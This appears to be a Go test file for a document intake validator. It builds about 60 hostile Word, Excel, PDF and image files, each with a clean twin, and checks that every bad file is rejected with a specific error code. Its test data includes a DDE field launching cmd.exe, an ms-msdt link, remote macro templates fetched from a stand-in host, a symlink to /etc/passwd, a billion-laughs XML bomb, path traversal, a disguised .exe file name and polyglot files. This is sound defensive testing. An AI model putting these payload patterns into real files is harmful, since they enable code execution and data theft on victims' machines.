package intake

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"image"
	"image/jpeg"
	"image/png"
	"io/fs"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"hoso/internal/errs"
)

// attack is a file that attacks its reader, or whoever opens it later, and a clean
// file of the same shape.
type attack struct {
	name, code string
	bad, twin  []byte
}

// withTypes is a Word file whose main part has another type.
func withTypes(t *testing.T, from, to string) []byte {
	return archive(t, entry{"[Content_Types].xml", strings.Replace(wordTypes, from, to, 1)}, entry{"_rels/.rels", wordRels},
		entry{"word/document.xml", wordHead + para("Điều 1. Phạm vi điều chỉnh") + wordTail})
}

const wordMainType = "vnd.openxmlformats-officedocument.wordprocessingml.document.main"

// flagged sets bits in the flags of every entry, in both places where they stand.
func flagged(data []byte, bits uint16) []byte {
	out := bytes.Clone(data)
	for _, sign := range []struct {
		magic string
		at    int
	}{{zipMagic, 6}, {"PK\x01\x02", 8}} {
		for i := 0; ; {
			n := bytes.Index(out[i:], []byte(sign.magic))
			if n < 0 {
				break
			}
			i += n + sign.at
			binary.LittleEndian.PutUint16(out[i:], binary.LittleEndian.Uint16(out[i:])|bits)
		}
	}
	return out
}

// linked is a Word file with one entry that is a symbolic link.
func linked(t *testing.T) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, e := range docxParts(para("Điều 1"), entry{"word/link", "/etc/passwd"}) {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		if e.name == "word/link" {
			h.SetMode(fs.ModeSymlink | 0o777)
		}
		w, err := z.CreateHeader(h)
		if err == nil {
			_, err = w.Write([]byte(e.body))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// field is a paragraph with a field that counts by itself.
func field(instruction string) string {
	return `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>` + instruction + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

// pagesOf is a PDF whose tree names one page n times.
func pagesOf(n int) []byte {
	return pdfFile("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids["+strings.Repeat("3 0 R ", n)+"]/Count "+itoa(n)+">>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R>>", stream("", hello), "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
}

func itoa(n int) string {
	if n < 10 {
		return string(rune('0' + n))
	}
	return itoa(n/10) + string(rune('0'+n%10))
}

// moreAttacks are those of offices and desks: templates, links that run something,
// fields, names that deceive, files that are two things.
func moreAttacks(t *testing.T) []attack {
	body := para("Điều 1. Phạm vi điều chỉnh")
	clean, page := docxFile(t, body), pdfPageFile("", "", hello)
	with := func(name, content string) []byte { return docxFile(t, body, entry{name, content}) }
	link := func(kind, target, mode string) []byte { return docxFile(t, body, wordLink(kind, target, mode)) }
	https := link("hyperlink", "https://x.example/", "External")
	list := []attack{
		{"template with macros", "macro", withTypes(t, wordMainType, "vnd.ms-word.template.macroEnabledTemplate.main"), withTypes(t, wordMainType, wordMainType)},
		{"macro data without a project", "macro", with("word/vbaData.xml", "<a/>"), with("word/data.xml", "<a/>")},
		{"macro sheet of Excel 4", "macro", with("xl/macrosheets/sheet1.xml", "<a/>"), with("xl/worksheets/sheet1.xml", "<a/>")},
		{"macro by relation only", "macro", link("vbaProject", "project.bin", "Internal"), link("theme", "theme1.xml", "Internal")},
		{"OLE object by relation", "embedded", link("oleObject", "embeddings/o.dat", "Internal"), link("image", "media/o.png", "Internal")},
		{"embedded workbook", "embedded", link("package", "embeddings/b.dat", "Internal"), link("image", "media/b.png", "Internal")},
		{"ActiveX control", "embedded", link("control", "activeX/a.xml", "Internal"), link("image", "media/a.png", "Internal")},
		{"sub-document", "embedded", link("subDocument", "part.docx", "Internal"), link("footer", "footer1.xml", "Internal")},
		{"object that is fetched", "external", link("oleObject", "https://x.example/a.html!", "External"), https},
		{"frame that is fetched", "external", link("frame", "https://x.example/a.html", "External"), https},
		{"sub-document elsewhere", "external", link("subDocument", "file:///C:/a.docx", "External"), link("attachedTemplate", "file:///C:/a.dotx", "External")},
		{"link that runs a program of the desk", "external", link("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"), https},
		{"link that searches a share", "external", link("hyperlink", "search-ms:query=a&amp;crumb=location:x.example", "External"), https},
		{"link to a share", "external", link("hyperlink", "file://host/share/a.docx", "External"), link("hyperlink", "file:///C:/a.docx", "External")},
		{"link to a share by its slashes", "external", link("hyperlink", `\\host\share\a.docx`, "External"), link("hyperlink", "a.docx", "External")},
		{"script in mixed letters", "external", link("hyperlink", "JavaScript:alert(1)", "External"), https},
		{"page in an address", "external", link("hyperlink", "data:text/html;base64,PHNjcmlwdD4=", "External"), https},
		{"template elsewhere, by the settings", "external", with("word/_rels/settings.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
			`<Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://x.example/t.dotm" TargetMode="External"/></Relationships>`),
			with("word/_rels/settings.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`)},
		{"DDE in one field", "dde", docxFile(t, field(` ddeauto c:\\windows\\cmd.exe "/k calc" `)+body), docxFile(t, field(" PAGE ")+body)},
		{"text that is fetched", "external", docxFile(t, field(` INCLUDETEXT "https://x.example/a.txt" `)+body), docxFile(t, field(" REF a ")+body)},
		{"linked object by a field", "embedded", docxFile(t, field(` LINK Excel.Sheet.8 "C:\\a.xls" `)+body), docxFile(t, field(" DATE ")+body)},
		{"foreign chunk in the text", "embedded", docxFile(t, `<w:altChunk/>`+body), docxFile(t, `<w:bookmarkEnd/>`+body)},
		{"absolute path", "entry_name", with("/etc/cron.d/x", "x"), with("etc/cron.d/x", "x")},
		{"path of Windows", "entry_name", with(`..\..\x.xml`, "<a/>"), with("x.xml", "<a/>")},
		{"second stream of a file", "entry_name", with("word/a.xml:hidden", "<a/>"), with("word/a.xml.hidden", "<a/>")},
		{"name turned round", "entry_name", with("word/media/\u202egnp.exe", "x"), with("word/media/gnp", "x")},
		{"name with what is not seen", "entry_name", with("word/media/a\u200b.png", "x"), with("word/media/a.png", "x")},
		{"symbolic link", "entry_name", linked(t), clean},
		{"encrypted archive", "encrypted", flagged(clean, 1), clean},
		{"program inside", "embedded", with("word/media/image1.png", "MZ\x90\x00 and so on"), with("word/media/image1.png", "\x89PNG and so on")},
		{"program of Linux inside", "embedded", with("word/fonts/a.odttf", "\x7fELF and so on"), with("word/fonts/a.odttf", "font")},
		{"billion laughs", "doctype", with("word/styles.xml", `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>`), with("word/styles.xml", `<l/>`)},
		{"doctype far inside", "doctype", with("word/settings.xml", "<?xml version=\"1.0\"?>"+strings.Repeat(" ", 64<<10-20)+`<!DOCTYPE x><x/>`), with("word/settings.xml", strings.Repeat(" ", 64<<10-20)+"<x/>")},
		{"XML in wide letters", "damaged", with("word/settings.xml", "\xff\xfe<\x00a\x00/\x00>\x00"), with("word/settings.xml", "<a/>")},
		{"archive that begins as a program", "two_in_one", append([]byte("#!/bin/sh\nexit\n"), clean...), []byte("#!/bin/sh\nexit\n")},
		{"archive with a PDF at its beginning", "two_in_one", archive(t, append([]entry{{"%PDF-1.7", "x"}}, docxParts(body)...)...), archive(t, append([]entry{{"PDF-1.7", "x"}}, docxParts(body)...)...)},
		{"page and archive", "two_in_one", append([]byte("<html><p>Điều 1</p></html>"), clean...), []byte("<html><p>Điều 1</p></html>")},
		{"picture as a document", "unknown_type", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), page},
		{"old Word as RTF", "old_word", []byte(`{\rtf1{\object\objemb}}`), []byte("rtf1")},
		{"PDF that opens an address", "active", pdfPageFile("/OpenAction<</S/URI/URI(https://x.example/)>>", "", hello), pdfPageFile("/OpenAction[3 0 R/Fit]", "", hello)},
		{"PDF that opens an address, by an object", "active", pdfPageFile("/OpenAction 6 0 R", "", hello, "<</S/URI/URI(https://x.example/)>>"),
			pdfPageFile("/OpenAction 6 0 R", "", hello, "<</S/GoTo/D[3 0 R/Fit]>>")},
		{"PDF form of XML", "active", pdfPageFile("/AcroForm<</XFA 6 0 R>>", "", hello, "<<>>"), pdfPageFile("/AcroForm<</Fields[]>>", "", hello, "<<>>")},
		{"PDF that sends a form", "active", pdfPageFile("", "/AA<</O<</S/SubmitForm/F(https://x.example/)>>>>", hello), page},
		{"PDF that goes to another file", "active", pdfPageFile("", "/AA<</O<</S/GoToR/F(a.pdf)>>>>", hello), page},
		{"PDF with media", "active", pdfPageFile("", "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>]", hello), pdfPageFile("", "/Annots[]", hello)},
		{"PDF with a file in a stream", "active", pdfPageFile("", "", hello, stream("/Type/EmbeddedFile", "x")), pdfPageFile("", "", hello, stream("/Type/Metadata", "x"))},
		{"PDF bomb in an object stream", "unpacks_too_large", pdfPageFile("", "", hello, "<<>>", objectStream(t, strings.Repeat(" ", maxStructure+1))),
			pdfPageFile("", "", hello, "<<>>", objectStream(t, "1 0 <<>>"))},
		{"PDF of too many pages", "too_many_pages", pagesOf(MaxPages + 1), pagesOf(3)},
		{"PDF with much behind its end", "damaged", append(bytes.Clone(page), make([]byte, 8192)...), page},
	}
	return list
}

// sheetAttacks are workbooks; each differs from its twin in one thing.
func sheetAttacks(t *testing.T) []attack {
	book := func(more ...entry) []byte { return bookFile(t, more...) }
	rels := func(kind, target, mode string) entry {
		return entry{"xl/_rels/more.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="r1" Type="http://x/` + kind + `" Target="` + target + `" TargetMode="` + mode + `"/></Relationships>`}
	}
	return []attack{
		{"workbook that looks into another", "embedded", book(rels("externalLink", "externalLinks/e.xml", "Internal")), book(rels("theme", "theme/t.xml", "Internal"))},
		{"workbook that fetches another", "external", book(rels("externalLinkPath", "https://x.example/a.xlsx", "External")), book(rels("hyperlink", "https://x.example/", "External"))},
		{"workbook with macros", "macro", book(entry{"xl/vbaProject.bin", "x"}), book(entry{"xl/project.bin", "x"})},
	}
}

// bookFile is a small workbook with more entries.
func bookFile(t *testing.T, more ...entry) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	if err := f.SetSheetRow("Sheet1", "A1", &[]any{"Mã", "Số"}); err != nil {
		t.Fatal(err)
	}
	if err := f.SetSheetRow("Sheet1", "A2", &[]any{"a", "b"}); err != nil {
		t.Fatal(err)
	}
	raw, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(raw.Bytes()), int64(raw.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, part := range z.File {
		if err := w.Copy(part); err != nil {
			t.Fatal(err)
		}
	}
	for _, e := range more {
		part, err := w.Create(e.name)
		if err == nil {
			_, err = part.Write([]byte(e.body))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// pictureAttacks are slips and pages that were photographed.
func pictureAttacks(t *testing.T) []attack {
	t.Helper()
	var p, j bytes.Buffer
	img := image.NewGray(image.Rect(0, 0, 40, 30))
	for i := range img.Pix {
		img.Pix[i] = byte(i * 7)
	}
	if err := png.Encode(&p, img); err != nil {
		t.Fatal(err)
	}
	if err := jpeg.Encode(&j, img, nil); err != nil {
		t.Fatal(err)
	}
	zipped := archive(t, entry{"a.html", "<script>"})
	return []attack{
		{"PNG and archive", "two_in_one", append(bytes.Clone(p.Bytes()), zipped...), p.Bytes()},
		{"JPEG and archive", "two_in_one", append(bytes.Clone(j.Bytes()), zipped...), j.Bytes()},
		{"JPEG and archive that ends as a JPEG does", "two_in_one", append(append(bytes.Clone(j.Bytes()), zipped[:len(zipped)-2]...), "\x02\x00\xff\xd9"...), j.Bytes()},
		{"PNG and page", "two_in_one", append(bytes.Clone(p.Bytes()), "<html><script>"...), p.Bytes()},
		{"PNG whose part is longer than the file", "damaged", append([]byte(pngMagic), 0x7f, 0xff, 0xff, 0xff, 'I', 'H', 'D', 'R', 0, 0, 0, 0), p.Bytes()},
		{"JPEG without an end", "damaged", j.Bytes()[:j.Len()-2], j.Bytes()},
	}
}

// TestHostileFiles counts the crafted files (SECURITY T22: 60, each with a clean
// twin), and tries those that are no documents.
func TestHostileFiles(t *testing.T) {
	sheets, pictures := sheetAttacks(t), pictureAttacks(t)
	all := len(attacks(t)) + len(moreAttacks(t)) + len(sheets) + len(pictures)
	t.Logf("%d crafted files", all)
	if all < 60 {
		t.Errorf("only %d crafted files", all)
	}
	for _, c := range sheets {
		t.Run(c.name, func(t *testing.T) {
			if _, err := readTable(t, c.twin); err != nil {
				t.Fatal("the clean twin was refused:", err)
			}
			if _, err := readTable(t, c.bad); errs.Of(err) == nil || errs.Of(err).Code != "intake.file."+c.code {
				t.Errorf("got %v, want %s", err, c.code)
			}
		})
	}
	for _, c := range pictures {
		t.Run(c.name, func(t *testing.T) {
			if _, err := CheckPicture("phiếu.png", c.twin); err != nil {
				t.Fatal("the clean twin was refused:", err)
			}
			if _, err := CheckPicture("phiếu.png", c.bad); errs.Of(err) == nil || errs.Of(err).Code != "intake.file."+c.code {
				t.Errorf("got %v, want %s", err, c.code)
			}
		})
	}
}
